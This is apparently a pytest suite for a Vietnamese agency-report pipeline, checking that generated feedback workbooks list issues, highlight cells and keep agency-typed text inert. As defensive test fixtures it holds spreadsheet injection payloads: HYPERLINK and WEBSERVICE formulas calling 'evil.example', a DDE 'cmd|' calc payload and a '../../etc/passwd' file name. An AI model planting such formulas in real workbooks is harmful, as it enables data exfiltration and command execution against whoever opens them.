"""Feedback workbooks: what an agency receives back, checked on real returns with deliberate mistakes.

Returns are made like the agencies' files (pipeline.form.sample + the template writer), read and validated by the
real reader and validator, and the feedback is opened both with openpyxl and as raw XML: the issues sheet
comes first and lists everything with links, problem cells are highlighted and commented, the agency's file
is never touched, and nothing the agency typed becomes a formula or a link.
"""

from __future__ import annotations

import datetime as dt
import hashlib
import io
import random
import re
import shutil
import subprocess
import zipfile
from dataclasses import replace
from pathlib import Path
from typing import Any

import hostile as h
import openpyxl
import pytest
from click.testing import CliRunner
from openpyxl.cell.cell import Cell

from pipeline.form.layout import layout_for
from pipeline.form.sample import SampleReturn, make_sample
from pipeline.form.template import build_workbook, input_value_text
from pipeline.intake.read import read
from pipeline.intake.submission import Submission
from pipeline.issues import Issue, Severity, issue
from pipeline.report import feedback
from pipeline.report.feedback import (
    FILLS,
    ISSUES_SHEET,
    TEXT_LIMIT,
    TRUNCATED_MARK,
    feedback_file_name,
    feedback_for_file,
    is_safe_formula,
    put_text,
    safe_text,
)
from pipeline.validation.validate import validate_batch

RETURNED = Path(__file__).parents[1] / "data" / "returned"
HEADER_COLUMNS = ["STT", "Mức độ", "Trang", "Ô", "Chỉ tiêu", "Giá trị đã nhập", "Nội dung", "Mã"]
SEVERITY_WORDS = {"Lỗi": 0, "Cảnh báo": 1, "Thông tin": 2}
HOSTILE_TEXTS = {  # narrative fields (min. 30 characters, so each is also an error listed with its value)
    "dg_ket_qua": '=HYPERLINK("http://evil","x")',
    "dg_ton_tai": "+1",
    "dg_kho_khan": "@SUM(A1)",
    "dg_nguyen_nhan": "http://x.y",
}


# --------------------------------------------------------------------------------------------------------
# Making returns and reading feedback


def sample(spec, registry, code: str = "STC", seed: int = 1, mistakes: int = 4) -> SampleReturn:
    return make_sample(spec, registry.get(code), random.Random(seed), mistakes=mistakes)


def write_return(folder: Path, name: str, spec, smp: SampleReturn) -> Path:
    path = folder / name
    path.write_bytes(build_workbook(spec, agency=smp.agency, values=smp.values, projects=smp.projects,
                                    cell_text=smp.cell_text, tables=smp.tables))
    return path


def check(path: Path, spec, registry) -> tuple[Submission, list[Issue]]:
    submission = read(path, spec=spec, registry=registry)
    submission.sha256 = hashlib.sha256(path.read_bytes()).hexdigest()  # as the run records it
    verdict = validate_batch([submission], spec)[0]
    return submission, verdict.issues


def listed(wb: openpyxl.Workbook) -> tuple[int, list[tuple[Cell, ...]]]:
    """The issues sheet's header row number and its data rows."""
    ws = wb[ISSUES_SHEET]
    header = next(r for r in range(1, 30) if ws.cell(r, 1).value == "STT")
    rows = [tuple(row) for row in ws.iter_rows(min_row=header + 1, max_col=len(HEADER_COLUMNS))
            if row[0].value is not None]
    return header, rows


def members(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as archive:
        return {n: archive.read(n).decode("utf-8", "replace") for n in archive.namelist()
                if n.endswith((".xml", ".rels", ".vml"))}


def sheet_parts(path: Path) -> dict[str, str]:
    """Sheet name → its worksheet XML."""
    parts = members(path)
    rels = dict(re.findall(r'Id="([^"]+)"[^>]*Target="/?(?:xl/)?([^"]+)"', parts["xl/_rels/workbook.xml.rels"]))
    rels.update({k: v for v, k in re.findall(r'Target="/?(?:xl/)?([^"]+)"[^>]*Id="([^"]+)"',
                                             parts["xl/_rels/workbook.xml.rels"])})
    sheets = re.findall(r'<sheet [^>]*name="([^"]+)"[^>]*r:id="([^"]+)"', parts["xl/workbook.xml"])
    unescape = {"&amp;": "&", "&apos;": "'", "&quot;": '"', "&lt;": "<", "&gt;": ">"}
    out = {}
    for name, rid in sheets:
        for entity, char in unescape.items():
            name = name.replace(entity, char)
        out[name] = parts["xl/" + rels[rid]]
    return out


def cell_xml(sheet_xml: str, ref: str) -> str:
    match = re.search(rf'<c r="{ref}"[^>]*?(?:/>|>.*?</c>)', sheet_xml, re.S)
    return match.group(0) if match else ""


@pytest.fixture(scope="module")
def xlsx_case(tmp_path_factory, spec, registry):
    """An .xlsx return with sampled mistakes plus agency text that looks like formulas and links."""
    folder = tmp_path_factory.mktemp("xlsx")
    # The first sample (by seed) whose mistakes include errors and a warning.
    samples = (sample(spec, registry, seed=seed) for seed in range(100))
    smp = next(s for s in samples if {m.severity for m in s.mistakes} == {"error", "warning"})
    smp.values.update(HOSTILE_TEXTS)
    source = write_return(folder, "Báo cáo CNTT Sở Tài chính.xlsx", spec, smp)
    before = hashlib.sha256(source.read_bytes()).hexdigest(), source.stat().st_mtime_ns
    submission, issues = check(source, spec, registry)
    out = feedback_for_file(source, submission, issues, spec, folder / "feedback")
    return {"source": source, "before": before, "submission": submission, "issues": issues, "out": out,
            "sample": smp, "wb": openpyxl.load_workbook(out)}  # loaded once: the tests only look


# --------------------------------------------------------------------------------------------------------
# The copy of an .xlsx return


def test_feedback_is_named_after_the_agency_and_the_original_is_untouched(xlsx_case):
    out, source = xlsx_case["out"], xlsx_case["source"]
    assert out is not None and out.exists()
    assert out.name == "phan_hoi_STC_Bao_cao_CNTT_So_Tai_chinh.xlsx"
    assert out.parent == source.parent / "feedback"
    assert (hashlib.sha256(source.read_bytes()).hexdigest(), source.stat().st_mtime_ns) == xlsx_case["before"]
    assert not [p for p in out.parent.iterdir() if p != out]  # no temp file left behind


def test_issues_sheet_is_first_and_lists_every_issue_errors_first(xlsx_case):
    wb = xlsx_case["wb"]
    assert wb.sheetnames[0] == ISSUES_SHEET
    assert wb.active.title == ISSUES_SHEET
    assert [ws.title for ws in wb.worksheets if ws.sheet_view.tabSelected] == [ISSUES_SHEET]
    # The agency's sheets follow, all of them.
    assert wb.sheetnames[1:] == openpyxl.load_workbook(xlsx_case["source"]).sheetnames
    header, rows = listed(wb)
    ws = wb[ISSUES_SHEET]
    assert [c.value for c in ws[header]] == HEADER_COLUMNS
    issues = xlsx_case["issues"]
    assert len(rows) == len(issues)
    assert [r[0].value for r in rows] == list(range(1, len(rows) + 1))
    # Errors first; within a severity, file-level issues, then sheet by sheet in the workbook's order and
    # row by row, as the agency reads its form.
    position = {name: i for i, name in enumerate(wb.sheetnames)}
    keys = [(SEVERITY_WORDS[r[1].value], position.get(r[2].value, -1),
             openpyxl.utils.cell.coordinate_to_tuple(r[3].value) if r[3].value else (0, 0)) for r in rows]
    assert keys == sorted(keys)
    assert "Cảnh báo" in {r[1].value for r in rows}
    expected = sorted((i.code, i.cell or "", i.message("vi")) for i in issues)
    assert sorted((r[7].value, r[3].value or "", r[6].value) for r in rows) == expected
    # Every sampled mistake is listed at its cell.
    for mistake in xlsx_case["sample"].mistakes:
        assert any(r[2].value == mistake.sheet and r[3].value == mistake.cell and r[7].value == mistake.code
                   for r in rows), mistake


def test_heading_gives_agency_file_counts_and_outcome(xlsx_case):
    ws = xlsx_case["wb"][ISSUES_SHEET]
    text = "\n".join(str(ws.cell(r, 1).value) for r in range(1, 8))
    errors = sum(1 for i in xlsx_case["issues"] if i.severity is Severity.ERROR)
    warnings = sum(1 for i in xlsx_case["issues"] if i.severity is Severity.WARNING)
    assert "Sở Tài chính (mã STC)" in text
    assert "Báo cáo CNTT Sở Tài chính.xlsx" in text
    assert f"Số lỗi: {errors}; số cảnh báo: {warnings}" in text
    assert ("Kết quả kiểm tra: Chưa hợp lệ. Báo cáo chưa hợp lệ, đề nghị đơn vị sửa các lỗi dưới đây, hoàn thiện và "
            "gửi lại cho Sở Bưu chính, Viễn thông.") in text


def test_issues_sheet_is_usable_and_printable(xlsx_case):
    wb = xlsx_case["wb"]
    ws = wb[ISSUES_SHEET]
    header, rows = listed(wb)
    assert ws.freeze_panes == f"A{header + 1}"
    assert ws.auto_filter.ref == f"A{header}:H{header + len(rows)}"
    assert rows[0][6].alignment.wrap_text
    assert ws.page_setup.orientation == "landscape"
    assert int(ws.page_setup.paperSize) == int(ws.PAPERSIZE_A4) == 9
    assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.page_setup.fitToWidth == 1
    assert ws.print_title_rows.replace("$", "") == f"{header}:{header}"


def test_each_listed_cell_links_to_a_highlighted_commented_cell(xlsx_case):
    wb = xlsx_case["wb"]
    _, rows = listed(wb)
    by_place = {(i.sheet, i.cell): i for i in xlsx_case["issues"] if i.cell}
    linked = 0
    for row in rows:
        sheet, ref, code = row[2].value, row[3].value, row[7].value
        if not ref:
            assert row[3].hyperlink is None
            continue
        link = row[3].hyperlink
        assert link is not None, (sheet, ref)
        assert link.location == f"'{sheet}'!{ref}" and not link.target and not link.id
        target = wb[sheet][ref]
        assert target.comment is not None
        item = by_place[(sheet, ref)]
        assert item.message("vi") in target.comment.text
        assert item.message("en") in target.comment.text
        worst = "error" if any(i.severity is Severity.ERROR for i in xlsx_case["issues"]
                               if (i.sheet, i.cell) == (sheet, ref)) else "warning"
        assert target.fill.fgColor.rgb.endswith(FILLS[Severity(worst)]), (sheet, ref, code)
        linked += 1
    assert linked == len({(i.sheet, i.cell) for i in xlsx_case["issues"] if i.cell})


def test_protection_and_input_cells_are_kept(xlsx_case):
    original = openpyxl.load_workbook(xlsx_case["source"])
    copy = xlsx_case["wb"]
    for name in original.sheetnames:
        assert copy[name].protection.sheet == original[name].protection.sheet
        assert copy[name].protection.insertRows == original[name].protection.insertRows
        assert copy[name].sheet_state == original[name].sheet_state
    for sheet, ref in (("Hiện trạng", "D7"), ("Thông tin chung", "D14"), ("Dự án", "B7")):
        assert copy[sheet][ref].protection.locked is False  # still editable by the agency
    assert len(copy["Hiện trạng"].data_validations.dataValidation) == len(
        original["Hiện trạng"].data_validations.dataValidation)


def test_agency_text_stays_text(xlsx_case, spec):
    out = xlsx_case["out"]
    sheets = sheet_parts(out)
    issues_xml = sheets[ISSUES_SHEET]
    assert "<f>" not in issues_xml and "<f " not in issues_xml
    layout = layout_for(spec)
    wb = openpyxl.load_workbook(out)
    for field_id, text in HOSTILE_TEXTS.items():
        ref = layout.cells[field_id]
        xml = cell_xml(sheets[ref.sheet], ref.a1)
        assert xml and "<f" not in xml, xml
        assert wb[ref.sheet][ref.a1].value == text and wb[ref.sheet][ref.a1].data_type == "s"
        # The value is listed, as text, in the issues sheet.
        _, rows = listed(wb)
        shown = [r[5] for r in rows if r[3].value == ref.a1 and r[2].value == ref.sheet]
        assert shown and all(c.value == text and c.data_type == "s" for c in shown)
    _assert_no_outside_links(out)


def test_english_under_vietnamese_in_comments(xlsx_case):
    wb = xlsx_case["wb"]
    mistake = xlsx_case["sample"].mistakes[0]
    text = wb[mistake.sheet][mistake.cell].comment.text
    assert text.index("LỖI") < text.index("(Error)") or text.index("CẢNH BÁO") < text.index("(Warning)")


def _assert_no_outside_links(path: Path) -> None:
    """No hyperlink relationship anywhere; every <hyperlink> is an internal location; no external links."""
    parts = members(path)
    for name, xml in parts.items():
        if name.endswith(".rels"):
            assert "/hyperlink" not in xml, name
            assert "externalLink" not in xml and 'TargetMode="External"' not in xml, name
        for link in re.findall(r"<hyperlink [^>]*>", xml):
            assert "location=" in link and "r:id" not in link, (name, link)
    assert not [n for n in parts if n.startswith("xl/externalLinks/")]


# --------------------------------------------------------------------------------------------------------
# Hostile content in the agency's own workbook


def test_agency_formulas_that_reach_outside_are_defused(tmp_path, spec, registry):
    smp = sample(spec, registry, seed=2)
    source = write_return(tmp_path, "tampered.xlsx", spec, smp)
    wb = openpyxl.load_workbook(source)
    ws = wb["Hiện trạng"]
    cells = layout_for(spec).cells
    narrative = [cells[f].a1 for f in ("dg_ket_qua", "dg_ton_tai", "dg_kho_khan", "dg_nguyen_nhan", "dg_de_xuat")]
    ws[narrative[0]] = '=HYPERLINK("http://evil.example","Bấm vào đây")'
    ws[narrative[1]] = '=WEBSERVICE("http://evil.example/?q="&D7)'
    ws[narrative[2]] = "=cmd|' /C calc'!A0"
    ws[narrative[3]] = "=SUM(D7,1)"  # harmless arithmetic stays a formula
    ws[narrative[4]].hyperlink = "http://evil.example"
    wb.defined_names.add(openpyxl.workbook.defined_name.DefinedName("leak", attr_text='WEBSERVICE("http://x")'))
    wb.save(source)
    submission, issues = check(source, spec, registry)
    assert any(i.severity is Severity.ERROR for i in issues)
    out = feedback_for_file(source, submission, issues, spec, tmp_path / "fb")
    formulas = "\n".join(re.findall(r"<f\b[^>]*>[^<]*</f>", "\n".join(members(out).values())))
    for bad in ("HYPERLINK", "WEBSERVICE", "cmd|", "evil.example"):
        assert bad not in formulas, bad  # in no formula; as text, see below
    copy = openpyxl.load_workbook(out)
    # Saved by openpyxl, they have no value to show: each becomes its own text, as text (the agency sees what it
    # typed; the issues sheet says so), never a formula or a link.
    for cell, typed in ((narrative[0], '=HYPERLINK("http://evil.example","Bấm vào đây")'),
                        (narrative[1], '=WEBSERVICE("http://evil.example/?q="&D7)'),
                        (narrative[2], "=cmd|' /C calc'!A0")):
        assert (copy["Hiện trạng"][cell].value, copy["Hiện trạng"][cell].data_type) == (typed, "s")
        assert copy["Hiện trạng"][cell].hyperlink is None
    assert copy["Hiện trạng"][narrative[3]].data_type == "f"
    assert "leak" not in copy.defined_names
    # The template's own formulas still compute: the computed ratio and the project totals.
    ratio = layout_for(spec).cells["ty_le_may_tren_cbcc"]
    assert copy[ratio.sheet][ratio.a1].data_type == "f"
    _assert_no_outside_links(out)


def test_xlsm_return_gives_xlsx_feedback_without_macros(tmp_path, spec, registry):
    smp = sample(spec, registry, code="SNV", seed=3)
    source = tmp_path / "bao_cao_SNV.xlsm"
    source.write_bytes(as_xlsm(build_workbook(spec, agency=smp.agency, values=smp.values,
                                              projects=smp.projects, cell_text=smp.cell_text, tables=smp.tables)))
    submission, issues = check(source, spec, registry)
    assert submission.format == "xlsm" and submission.readable
    assert "FILE_MACROS" in {i.code for i in issues}
    out = feedback_for_file(source, submission, issues, spec, tmp_path / "fb")
    assert out.name == "phan_hoi_SNV_bao_cao_SNV.xlsx"
    with zipfile.ZipFile(out) as archive:
        names = archive.namelist()
        content_types = archive.read("[Content_Types].xml").decode()
    assert "xl/vbaProject.bin" not in names
    assert "macroEnabled" not in content_types and "vbaProject" not in content_types
    wb = openpyxl.load_workbook(out)
    _, rows = listed(wb)
    macro_rows = [r for r in rows if r[7].value == "FILE_MACROS"]
    assert macro_rows and macro_rows[0][3].hyperlink is None  # a file-level issue: listed, not linked
    assert "Macro (VBA)" in "\n".join(str(wb[ISSUES_SHEET].cell(r, 1).value) for r in range(1, 9))


def as_xlsm(data: bytes) -> bytes:
    """The same workbook saved as Excel does with macros: vbaProject.bin and the macroEnabled type."""
    parts = dict(h._members(data))
    types = parts["[Content_Types].xml"].decode()
    types = types.replace("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                          "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    types = types.replace("<Default ", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                          "<Default ", 1)
    parts["[Content_Types].xml"] = types.encode()
    rels = parts["xl/_rels/workbook.xml.rels"].decode().replace(
        "</Relationships>", '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/'
        'relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')
    parts["xl/_rels/workbook.xml.rels"] = rels.encode()
    parts["xl/vbaProject.bin"] = h.vba_project()
    return h.make_zip(parts.items())


def test_a_corrected_feedback_copy_sent_back_gets_fresh_feedback(tmp_path, spec, registry, xlsx_case):
    resent = tmp_path / xlsx_case["out"].name
    shutil.copyfile(xlsx_case["out"], resent)
    submission, issues = check(resent, spec, registry)
    assert submission.readable and submission.agency_code == "STC"
    out = feedback_for_file(resent, submission, issues, spec, tmp_path / "fb")
    assert out.name == "phan_hoi_STC_Bao_cao_CNTT_So_Tai_chinh.xlsx"  # one prefix, not two
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames.count(ISSUES_SHEET) == 1
    mistake = xlsx_case["sample"].mistakes[0]
    comment = wb[mistake.sheet][mistake.cell].comment.text
    assert comment.count("LỖI:") + comment.count("CẢNH BÁO:") == sum(
        1 for i in issues if (i.sheet, i.cell) == (mistake.sheet, mistake.cell))
    assert "Ghi chú có sẵn" not in comment  # our old comment was replaced, not kept as the agency's


def test_agency_comment_is_kept_under_ours(tmp_path, spec, registry):
    smp = sample(spec, registry, seed=1)
    source = write_return(tmp_path, "r.xlsx", spec, smp)
    mistake = smp.mistakes[0]
    wb = openpyxl.load_workbook(source)
    wb[mistake.sheet][mistake.cell].comment = openpyxl.comments.Comment("Số liệu tạm tính", "Kế toán")
    wb.save(source)
    submission, issues = check(source, spec, registry)
    out = feedback_for_file(source, submission, issues, spec, tmp_path / "fb")
    text = openpyxl.load_workbook(out)[mistake.sheet][mistake.cell].comment.text
    assert text.startswith(("LỖI:", "CẢNH BÁO:"))
    assert text.index("— Ghi chú có sẵn trong tệp —") < text.index("Số liệu tạm tính")
    assert text.rstrip().endswith("Số liệu tạm tính")


# --------------------------------------------------------------------------------------------------------
# .xls and .ods returns: the current template, pre-filled and annotated


@pytest.mark.parametrize("fixture", ["excel2003-STC.xls", "openoffice-H-CANLOC.ods"])
def test_legacy_return_gets_a_prefilled_template(tmp_path, spec, registry, fixture):
    source = tmp_path / fixture
    shutil.copyfile(RETURNED / fixture, source)
    submission, _ = check(source, spec, registry)
    assert submission.readable and submission.format == source.suffix[1:]
    # A real validator verdict on a real legacy file, with one figure out of range and one unit slip.
    submission.values["tong_so_may_tinh"] = -5
    submission.values["kp_cntt_2006"] = 5_000_000.0
    issues = validate_batch([submission], spec)[0].issues
    codes = {i.field: i.code for i in issues if i.severity is not Severity.INFO}
    assert codes.get("tong_so_may_tinh") and codes.get("kp_cntt_2006")
    out = feedback_for_file(source, submission, issues, spec, tmp_path / "fb")
    assert out.name == f"phan_hoi_{submission.agency_code}_{source.stem}.xlsx"
    wb = openpyxl.load_workbook(out)
    template_sheets = [s.name for s in spec.sheets]
    assert wb.sheetnames[0] == ISSUES_SHEET and all(name in wb.sheetnames for name in template_sheets)
    heading = "\n".join(str(wb[ISSUES_SHEET].cell(r, 1).value) for r in range(1, 8))
    assert "tạo lại từ mẫu hiện hành" in heading
    _assert_values_at_template_cells(wb, spec, submission)
    layout = layout_for(spec)
    for field_id, code in codes.items():
        ref = layout.cells[field_id]
        cell = wb[ref.sheet][ref.a1]
        assert cell.comment is not None and code in {i.code for i in issues if i.field == field_id}
        item = next(i for i in issues if i.field == field_id)
        assert replace(item, sheet=ref.sheet, cell=ref.a1).message("vi") in cell.comment.text
        assert cell.fill.fgColor.rgb.endswith(FILLS[item.severity])
    _, rows = listed(wb)
    links = {(r[2].value, r[3].value): r[3].hyperlink for r in rows if r[3].hyperlink is not None}
    ref = layout.cells["tong_so_may_tinh"]
    assert links[(ref.sheet, ref.a1)].location == f"'{ref.sheet}'!{ref.a1}"
    _assert_no_outside_links(out)


def _assert_values_at_template_cells(wb: openpyxl.Workbook, spec, submission: Submission) -> None:
    """Every value read sits where the current template puts its field (and each project on its row)."""
    layout = layout_for(spec)
    checked = 0
    for field_id, value in submission.values.items():
        f = spec.fields[field_id]
        if not f.is_input or value is None or field_id in ("tong_so_may_tinh", "kp_cntt_2006"):
            continue
        ref = layout.cells[field_id]
        _assert_same(wb[ref.sheet][ref.a1].value, input_value_text(spec, f, value), field_id)
        checked += 1
    assert checked > 50
    table = layout.table
    for index, project in enumerate(submission.projects):
        for column_id, value in project.values.items():
            if value is not None:
                column = spec.table.column(column_id)
                shown = wb[table.sheet][table.cell(table.first_row + index, column_id)].value
                _assert_same(shown, input_value_text(spec, column, value), column_id)


def _assert_same(shown: Any, expected: Any, what: str) -> None:
    if isinstance(expected, dt.date):
        assert shown.date() == expected, what
    elif isinstance(expected, float):
        assert shown == pytest.approx(expected), what
    else:
        assert shown == expected, what


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed")
def test_xls_with_mistakes_converted_by_libreoffice(tmp_path, spec, registry):
    smp = sample(spec, registry, code="SYT", seed=1)
    smp.values.update(HOSTILE_TEXTS)
    xlsx = write_return(tmp_path, "so_y_te.xlsx", spec, smp)
    subprocess.run(["soffice", f"-env:UserInstallation=file://{tmp_path}/lo-profile", "--headless",
                    "--convert-to", "xls", "--outdir", str(tmp_path / "xls"), str(xlsx)],
                   check=True, capture_output=True, timeout=180)
    source = tmp_path / "xls" / "so_y_te.xls"
    submission, issues = check(source, spec, registry)
    assert submission.format == "xls"
    out = feedback_for_file(source, submission, issues, spec, tmp_path / "fb")
    wb = openpyxl.load_workbook(out)
    layout = layout_for(spec)
    for mistake in smp.mistakes:
        if mistake.row is None:  # a return-level field: at its template cell
            ref = layout.cells[mistake.field]
            sheet, cell = ref.sheet, ref.a1
        else:
            sheet, cell = mistake.sheet, mistake.cell  # the sample's projects sit on the template's rows
        comment = wb[sheet][cell].comment
        assert comment is not None, mistake
        if mistake.kind == "text_in_number":  # what the agency typed is kept, as text
            assert wb[sheet][cell].value == smp.cell_text[mistake.field]
    for field_id, text in HOSTILE_TEXTS.items():
        ref = layout.cells[field_id]
        assert wb[ref.sheet][ref.a1].value == text and wb[ref.sheet][ref.a1].data_type == "s"
        assert "<f" not in cell_xml(sheet_parts(out)[ref.sheet], ref.a1)
    _assert_no_outside_links(out)


def test_changed_source_falls_back_to_the_template(tmp_path, spec, registry):
    smp = sample(spec, registry, seed=4)
    source = write_return(tmp_path, "r.xlsx", spec, smp)
    submission, issues = check(source, spec, registry)
    source.write_bytes(b"changed after it was read")
    out = feedback_for_file(source, submission, issues, spec, tmp_path / "fb")
    wb = openpyxl.load_workbook(out)
    assert "tạo lại từ mẫu hiện hành" in "\n".join(str(wb[ISSUES_SHEET].cell(r, 1).value) for r in range(1, 8))
    assert source.read_bytes() == b"changed after it was read"


# --------------------------------------------------------------------------------------------------------
# Unreadable files, nothing to say, the CLI


@pytest.mark.parametrize("name, data", [
    ("bao_cao.xlsx", h.html_as_xlsx()),
    ("hong.xlsx", h.truncated_xlsx()),
    ("mat_khau.xlsx", h.ole_encrypted_xlsx()),
])
def test_unreadable_file_gets_only_the_issues_sheet(tmp_path, spec, registry, name, data):
    source = tmp_path / name
    source.write_bytes(data)
    submission, issues = check(source, spec, registry)
    assert not submission.readable and any(i.severity is Severity.ERROR for i in issues)
    out = feedback_for_file(source, submission, issues, spec, tmp_path / "fb")
    assert out.name == f"phan_hoi_{Path(name).stem}.xlsx"
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == [ISSUES_SHEET]
    _, rows = listed(wb)
    assert [r[7].value for r in rows] == [i.code for i in issues]
    assert all(r[3].hyperlink is None for r in rows)
    assert "chưa xác định" in str(wb[ISSUES_SHEET]["A2"].value)


def test_clean_return_gives_no_feedback(tmp_path, spec, registry):
    smp = sample(spec, registry, seed=5, mistakes=0)
    source = write_return(tmp_path, "sach.xlsx", spec, smp)
    submission, issues = check(source, spec, registry)
    assert not [i for i in issues if i.severity is not Severity.INFO]
    assert feedback_for_file(source, submission, issues, spec, tmp_path / "fb") is None
    info = [issue("VALUE_CLEANED", sheet="Hiện trạng", cell="D7", value="x")]
    assert feedback_for_file(source, submission, info, spec, tmp_path / "fb") is None
    assert not (tmp_path / "fb").exists()


def test_warnings_only_are_accepted_with_warnings(tmp_path, spec, registry):
    smp = sample(spec, registry, seed=6, mistakes=0)
    source = write_return(tmp_path, "r.xlsx", spec, smp)
    submission, _ = check(source, spec, registry)
    warning = issue("RULE_MONEY_UNIT", file=source.name, sheet="Hiện trạng", cell="D73", field="kp_cntt_2006",
                    value=5000, context={"label_vi": "Kinh phí", "label_en": "Budget"})
    info = issue("VALUE_CLEANED", file=source.name, sheet="Hiện trạng", cell="D7", value="x")
    out = feedback_for_file(source, submission, [info, warning], spec, tmp_path / "fb")
    wb = openpyxl.load_workbook(out)
    heading = "\n".join(str(wb[ISSUES_SHEET].cell(r, 1).value) for r in range(1, 8))
    assert ("Kết quả kiểm tra: Hợp lệ, có cảnh báo. Báo cáo đã được tiếp nhận và tổng hợp; đề nghị đơn vị xem lại "
            "các cảnh báo dưới đây.") in heading and "Số lỗi: 0; số cảnh báo: 1" in heading
    _, rows = listed(wb)
    assert [r[1].value for r in rows] == ["Cảnh báo", "Thông tin"]
    assert wb["Hiện trạng"]["D73"].fill.fgColor.rgb.endswith(FILLS[Severity.WARNING])
    note = wb["Hiện trạng"]["D7"]  # an info note: a comment, no highlight
    assert note.comment is not None and not note.fill.fgColor.rgb.endswith(tuple(FILLS.values()))


def test_cli_check_writes_feedback(tmp_path, spec, registry):
    from pipeline.cli import cli

    smp = sample(spec, registry, seed=7)
    source = write_return(tmp_path, "bc.xlsx", spec, smp)
    result = CliRunner().invoke(cli, ["check", str(source), "--json", "--feedback", str(tmp_path / "fb")])
    assert result.exit_code in (0, 1), result.output
    assert (tmp_path / "fb" / "phan_hoi_STC_bc.xlsx").exists()


# --------------------------------------------------------------------------------------------------------
# Small pieces


def test_openpyxl_turns_equals_text_into_a_formula_and_put_text_does_not():
    ws = openpyxl.Workbook().active
    ws["A1"] = '=HYPERLINK("http://evil","x")'
    assert ws["A1"].data_type == "f"  # the pitfall (openpyxl 3.1.5): why the guard exists
    ws["A2"] = "#N/A"
    assert ws["A2"].data_type == "e"
    for ref, text in (("B1", '=HYPERLINK("http://evil","x")'), ("B2", "#N/A"), ("B3", "+1"), ("B4", "@SUM(A1)"),
                      ("B5", "http://x.y"), ("B6", "-2")):
        put_text(ws[ref], text)
        assert ws[ref].data_type == "s" and ws[ref].value == text
    assert ws["B1"].quotePrefix and ws["B3"].quotePrefix and not ws["B5"].quotePrefix
    buffer = io.BytesIO()
    ws.parent.save(buffer)
    xml = zipfile.ZipFile(buffer).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" in cell_xml(xml, "A1")
    assert all("<f" not in cell_xml(xml, f"B{n}") for n in range(1, 7))


def test_safe_text_strips_control_characters_and_cuts_visibly():
    assert safe_text("a\x00b\x01c\x0bd\x1fe\tf\ng") == "abc\nde\tf\ng"
    assert safe_text("Vie\u0302\u0323t") == "Việt"  # NFC
    long = "x" * 40_000
    cut = safe_text(long)
    assert len(cut) == TEXT_LIMIT and cut.endswith(TRUNCATED_MARK)
    astral = "😀" * 20_000  # 2 UTF-16 units each: Excel counts 40,000
    cut = safe_text(astral)
    assert len(cut.encode("utf-16-le")) // 2 <= TEXT_LIMIT and cut.endswith(TRUNCATED_MARK)
    ws = openpyxl.Workbook().active
    put_text(ws["A1"], "Từ Word:\x0bdòng hai\x07" + long)  # openpyxl alone raises IllegalCharacterError
    assert ws["A1"].value.startswith("Từ Word:\ndòng hai") and ws["A1"].value.endswith(TRUNCATED_MARK)


@pytest.mark.parametrize("formula, safe", [
    ("=SUM(D7:D9)", True),
    ('=IF(OR(N(\'Hiện trạng\'!$D$7)=0),"",(\'Hiện trạng\'!$D$9/\'Hiện trạng\'!$D$7))', True),
    ("=SUM(K7:INDEX(K:K,ROW()-1))", True),
    ("=12+30", True),
    ('=IF(A1="HYPERLINK(x)",1,0)', True),  # a function name inside a string literal calls nothing
    ("='Kế hoạch (mới)'!D7*2", True),  # nor inside a quoted sheet name
    ("='C:\\tmp\\x.xlsx'!D7", False),  # no sheet name holds \ or :, so this is another file
    ('=HYPERLINK("http://evil","x")', False),
    ('=WEBSERVICE("http://evil")', False),
    ("=_xlfn.WEBSERVICE(A1)", False),
    ("=INDIRECT(A1)", False),
    ("=cmd|' /C calc'!A0", False),
    ("='C:\\tmp\\[other.xlsx]Sheet1'!A1", False),
    ("=[1]Sheet1!A1", False),
    (None, False),
])
def test_which_agency_formulas_stay_formulas(formula, safe):
    assert is_safe_formula(formula) is safe


@pytest.mark.parametrize("file, code, expected", [
    ("Báo cáo Sở Tài chính (bản 2).xlsx", "STC", "phan_hoi_STC_Bao_cao_So_Tai_chinh_ban_2.xlsx"),
    ("BM-UDCNTT-2007_v1.0_H-CANLOC.xls", "H-CANLOC", "phan_hoi_H-CANLOC_BM-UDCNTT-2007_v1.0_H-CANLOC.xlsx"),
    ("Đề xuất.ods", None, "phan_hoi_De_xuat.xlsx"),
    ("phan_hoi_STC_bao_cao.xlsx", "STC", "phan_hoi_STC_bao_cao.xlsx"),
    ("../../etc/passwd", None, "phan_hoi_passwd.xlsx"),
    ("???.xlsx", "SNV", "phan_hoi_SNV_bao_cao.xlsx"),
    ("", None, "phan_hoi_bao_cao.xlsx"),
    ('CON.xlsx', None, "phan_hoi_CON.xlsx"),  # a device name on Windows alone, not after the prefix
    ('báo cáo: "Sở" <TC>|2007?*.xlsx', "STC", "phan_hoi_STC_bao_cao_So_TC_2007.xlsx"),  # what Windows forbids
    ("bao cao. .xlsx", "STC", "phan_hoi_STC_bao_cao.xlsx"),  # no trailing dot or space before the suffix
])
def test_file_names(file, code, expected):
    assert feedback_file_name(Submission(file=file, agency_code=code)) == expected


def test_feedback_in_a_deep_folder_stays_within_what_excel_opens(xlsx_case, spec, tmp_path):
    """A department folder nested deep (Vietnamese names, spaces) and an agency's long file name: the
    feedback's full path stays within Excel's 218 characters, its name shortened the same way every run,
    and two long names that begin alike stay two files."""
    from pipeline.filenames import EXCEL_PATH_LIMIT

    folder = tmp_path / "Phòng Công nghệ thông tin" / "Kế hoạch ứng dụng CNTT 2008–2010" / "Phản hồi các đơn vị"
    long_name = "Báo cáo hiện trạng và kế hoạch ứng dụng công nghệ thông tin giai đoạn 2008-2010 của " * 2
    written = []
    for name in (long_name + "Sở Tài chính.xlsx", long_name + "Sở Tài chính.xlsx", long_name + "bản 2.xlsx"):
        submission = replace(xlsx_case["submission"], file=name)
        written.append(feedback_for_file(xlsx_case["source"], submission, xlsx_case["issues"], spec, folder))
    assert written[0] == written[1] != written[2] and written[0].parent == written[2].parent == folder
    for path in written:
        assert len(str(path.absolute())) <= EXCEL_PATH_LIMIT and path.suffix == ".xlsx" and "~" in path.name
        assert path.name.startswith("phan_hoi_STC_Bao_cao_hien_trang")
